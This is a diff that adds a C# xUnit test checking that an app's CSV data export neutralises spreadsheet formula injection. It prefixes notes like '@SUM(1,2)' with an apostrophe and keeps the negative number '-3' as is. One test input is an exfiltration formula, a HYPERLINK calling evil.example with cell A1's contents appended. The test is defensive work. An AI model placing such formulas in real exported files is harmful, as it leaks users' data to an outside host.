@@ -144,6 +144,24 @@ public sealed class DataRightsTests
         Assert.StartsWith("/account/signin", refused.Headers.Location?.AbsolutePath ?? refused.Headers.Location?.ToString(), StringComparison.Ordinal);
     }
 
+    [Fact]
+    public async Task The_csv_download_defuses_a_formula_after_a_minus_sign_but_keeps_a_negative_number()
+    {
+        using var app = new HipSpineApp();
+        using var alice = app.Browser();
+        var id = await AccountSteps.PersonWithPlanAsync(app, alice, PatientA);
+        await AddDiaryEntryAsync(alice, id, 7, "-1+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")");
+        await AddDiaryEntryAsync(alice, id, 6, "-3");
+        await AddDiaryEntryAsync(alice, id, 5, "@SUM(1,2)");
+
+        using var csv = await alice.GetAsync(new Uri("/account/data?handler=csv", UriKind.Relative));
+        var rows = CsvRecords(await csv.Content.ReadAsStringAsync());
+        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "'-1+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"], rows);
+        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "-3"], rows);
+        Assert.Contains(["diary", "2026-06-01T08:30", "notes", "'@SUM(1,2)"], rows);
+        Assert.Contains(["diary", "2026-06-01T08:30", "pain", "7"], rows);
+    }
+
     [Theory]
     [InlineData("Sqlite")]
     [InlineData("PostgreSql")]
